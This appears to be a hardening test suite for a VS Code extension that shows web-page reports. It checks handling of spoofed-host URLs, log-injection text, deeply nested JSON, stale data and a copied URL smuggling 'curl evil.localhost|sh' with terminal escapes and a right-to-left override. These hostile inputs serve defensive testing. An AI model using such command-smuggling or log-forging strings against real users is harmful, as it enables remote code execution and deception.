/**
 * Hardening (issue 13): a hostile service, a hostile report and stale copies get nothing.
 * Each test is named after the item of the issue it holds to.
 */
import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import { admin, configure, pageReportsLogWith, panelTabs, resetService, serviceUrl, waitFor } from './harness';
import type { RecordedRequest } from '../service/types';

interface Inserted {
  id: number | string;
  url: string;
  project: string;
}

async function insertReport(url: string): Promise<Inserted> {
  return admin<Inserted>('reports', {
    report: { url, result: 'good', score: 90, privacy: 0, generated_at: '2026-11-20T10:15:30.000000Z', results: {} },
  });
}

async function closeAllEditors(): Promise<void> {
  await vscode.commands.executeCommand('workbench.action.closeAllEditors');
  await waitFor(() => panelTabs().length === 0, { message: 'all panels closed' });
}

const pause = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms));

describe('hardening', function () {
  this.timeout(60_000);

  before(async () => {
    await configure();
    await resetService();
  });

  afterEach(async () => {
    await admin('faults', undefined, 'DELETE');
    await closeAllEditors();
  });

  it('item 2: Open Page in Browser refuses a URL whose host VS Code would read differently (backslash, user info)', async () => {
    for (const [id, url] of [
      [990_021, 'https://shop.localhost\\@evil.localhost/'],
      [990_022, 'https://shop.localhost@evil.localhost/'],
    ] as const) {
      const body = JSON.stringify({ data: { id, url, project: 'shop.localhost', results: {} } });
      await admin('faults', {
        method: 'GET',
        path: `/api/v1/reports/${id}`,
        status: 200,
        body: { raw: body },
        times: 3,
      });
      const opened = await vscode.commands.executeCommand<boolean>('pageReports.openReportPage', { id });
      assert.equal(opened, false, `${url} is not opened`);
    }
  });

  it('item 3: a report nested 20 000 levels deep is shown, not left on "loading"', async () => {
    const id = 990_003;
    const deep = `${'{"a":'.repeat(20_000)}"bottom"${'}'.repeat(20_000)}`;
    const body = `{"data":{"id":${id},"url":"https://deep.localhost/nested","project":"deep.localhost","results":{"deep":{"passed":false,"importance":"high","value":${deep}}}}}`;
    await admin('faults', { method: 'GET', path: `/api/v1/reports/${id}`, status: 200, body: { raw: body }, times: 5 });
    await vscode.commands.executeCommand('pageReports.openReport', { id });
    // The controller logs the first draw of the report, after the page says it drew it.
    await pageReportsLogWith(`Report panel ${id}: shown`, 15_000);
  });

  it('item 7: server text in the log stays one line; a typed URL is logged without user:password@', async () => {
    const id = 990_007;
    const forgedUrl = 'https://forged.localhost/x\n2026-11-22 10:00:00.000 [error] forged entry\u001b[31m';
    await admin('faults', {
      method: 'POST',
      path: '/api/v1/reports',
      status: 201,
      body: {
        data: { id, url: forgedUrl, project: 'forged.localhost', result: 'good', score: 100, privacy: 0, results: {} },
      },
    });
    const port = new URL(serviceUrl()).port;
    const typed = `http://someone:hunter2-in-url@typed.localhost:${port}/demo-site/good.html`;
    await vscode.commands.executeCommand('pageReports.createReport', { url: typed, privacy: 0 });
    const log = await pageReportsLogWith(`Report ${id} created for`);
    assert.ok(!log.includes('hunter2-in-url'), 'the password of the typed URL is not logged');
    assert.ok(
      log.includes(`Creating a report for http://typed.localhost:${port}/demo-site/good.html`),
      'the URL is logged without user info',
    );
    const forged = log.split('\n').filter((line) => line.includes('forged entry') && !line.includes('\\n2026-11-22'));
    assert.deepEqual(forged, [], 'no forged entry starts a line');
    assert.ok(
      log.includes('\\n2026-11-22 10:00:00.000 [error] forged entry\\x1b[31m'),
      'the server text is written escaped',
    );
  });

  it("item 8: re-opening an open report refreshes it from the service; the tree's older copy does not overwrite it", async () => {
    const fresh = await insertReport('https://fresh.localhost/page');
    await vscode.commands.executeCommand('pageReports.openReport', { id: fresh.id });
    await waitFor(() => panelTabs().some((t) => t.label === '/page — fresh.localhost'), {
      message: 'the panel',
      timeoutMs: 10_000,
    });
    await admin('requests', undefined, 'DELETE');
    // What a tree item holds: a copy of the report taken earlier (here, an older URL).
    const stale = {
      id: fresh.id,
      url: 'https://stale.localhost/page',
      project: fresh.project,
      checks: [],
      raw: { id: fresh.id },
    };
    await vscode.commands.executeCommand('pageReports.openReport', { kind: 'report', report: stale });
    await waitFor(
      async () =>
        (await admin<RecordedRequest[]>('requests')).some(
          (r) => r.method === 'GET' && r.path === `/api/v1/reports/${fresh.id}`,
        ),
      { message: 'the panel asking the service again' },
    );
    await pause(500);
    assert.deepEqual(
      panelTabs().map((t) => t.label),
      ['/page — fresh.localhost'],
      "the panel still shows the service's report, not the older copy",
    );
  });

  it('item 8: deleting a project closes the panels of its reports, even one still loading', async () => {
    const report = await insertReport('https://closing.localhost/slow');
    await admin('faults', { method: 'GET', path: `/api/v1/reports/${report.id}`, delayMs: 3000 });
    // Not awaited: the command waits for the (slow) load.
    const opening = vscode.commands.executeCommand('pageReports.openReport', { id: report.id });
    await waitFor(() => panelTabs().length === 1, { message: 'the panel, loading' });
    const deleted = await vscode.commands.executeCommand('pageReports.deleteProject', report.project, {
      confirmed: true,
    });
    assert.equal(deleted, true);
    await opening;
    await waitFor(() => panelTabs().length === 0, {
      message: 'the loading panel closed with its project',
      timeoutMs: 8000,
    });
  });

  it('finding 6: Copy URL copies one line of printable text, for one report and for several', async () => {
    const hostile = await insertReport('https://copy.localhost/a\ncurl evil.localhost|sh\n\u001b[2J\u202egpj.exe');
    const plain = await insertReport('https://copy.localhost/plain');
    const one = await vscode.commands.executeCommand<string>('pageReports.copyReportUrl', { id: hostile.id });
    assert.equal(one, 'https://copy.localhost/a%0Acurl evil.localhost|sh%0A%1B[2J%E2%80%AEgpj.exe');
    const both = await vscode.commands.executeCommand<string>('pageReports.copyReportUrl', { id: plain.id }, [
      { id: plain.id },
      { id: hostile.id },
    ]);
    assert.equal(both, `https://copy.localhost/plain ${one}`);
  });
});
